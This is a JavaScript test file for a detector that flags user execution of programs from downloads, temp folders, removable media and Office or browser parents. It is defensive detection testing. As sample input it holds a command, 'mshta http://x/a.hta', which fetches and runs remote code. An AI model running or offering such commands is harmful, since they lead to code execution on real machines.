import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ev, techniquesOf } from './test-helpers.js';
import { userExecutionDetector as d } from './user-execution.js';

test('programs from Downloads, Temp, removable media and /tmp are reported with graded severity', () => {
  assert.equal(d.detect(ev({ exe: 'C:\\Users\\op\\Downloads\\setup.exe' }))[0]?.severity, 'high');
  assert.equal(d.detect(ev({ exe: 'C:\\Users\\op\\AppData\\Local\\Temp\\x.exe' }))[0]?.severity, 'medium');
  assert.equal(d.detect(ev({ exe: 'C:\\Users\\op\\AppData\\Roaming\\x\\y.exe' }))[0]?.severity, 'low');
  assert.equal(d.detect(ev({ exe: 'E:\\tool.exe', execguard: { process: { removable: true } } as never }))[0]?.severity, 'high');
  assert.deepEqual(techniquesOf(d, ev({ exe: '/media/usb0/run.sh' })), ['T0863']);
  assert.deepEqual(techniquesOf(d, ev({ exe: '/tmp/.x/payload' })), ['T0863']);
});

test('installed programs are not reported', () => {
  assert.deepEqual(techniquesOf(d, ev({ exe: 'C:\\Program Files\\Siemens\\WinCC\\bin\\PdlRt.exe' })), []);
  assert.deepEqual(techniquesOf(d, ev({ exe: 'C:\\Windows\\System32\\svchost.exe', cmd: 'svchost.exe -k netsvcs' })), []);
  assert.deepEqual(techniquesOf(d, ev({ exe: '/usr/bin/python3', args: ['python3', '/opt/app/run.py'] })), []);
});

test('a script started from a user-writable place', () => {
  const e = ev({ exe: 'C:\\Windows\\System32\\wscript.exe', cmd: 'wscript.exe "C:\\Users\\op\\Downloads\\invoice.vbs"' });
  assert.match(d.detect(e)[0]?.reason ?? '', /runs a script from a user-writable location \(download\)/);
  assert.deepEqual(
    techniquesOf(
      d,
      ev({
        exe: 'C:\\Windows\\System32\\cscript.exe',
        cmd: '"C:\\Windows\\system32\\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"',
      }),
    ),
    [],
  );
});

test('documents and browsers starting code', () => {
  const e = ev({
    exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    cmd: 'powershell -c Get-Date',
    parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  });
  assert.match(d.detect(e)[0]?.reason ?? '', /winword\.exe started an interpreter/);
  assert.deepEqual(
    techniquesOf(
      d,
      ev({
        exe: 'C:\\Windows\\System32\\mshta.exe',
        cmd: 'mshta http://x/a.hta',
        parent: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
      }),
    ),
    ['T0863'],
  );
  // Browsers starting their own helpers, or Office opening its splwow64, are normal.
  assert.deepEqual(
    techniquesOf(
      d,
      ev({
        exe: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
        cmd: 'msedge.exe --type=renderer',
        parent: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
      }),
    ),
    [],
  );
  assert.deepEqual(
    techniquesOf(
      d,
      ev({
        exe: 'C:\\Windows\\splwow64.exe',
        cmd: 'splwow64.exe 8192',
        parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
      }),
    ),
    [],
  );
});
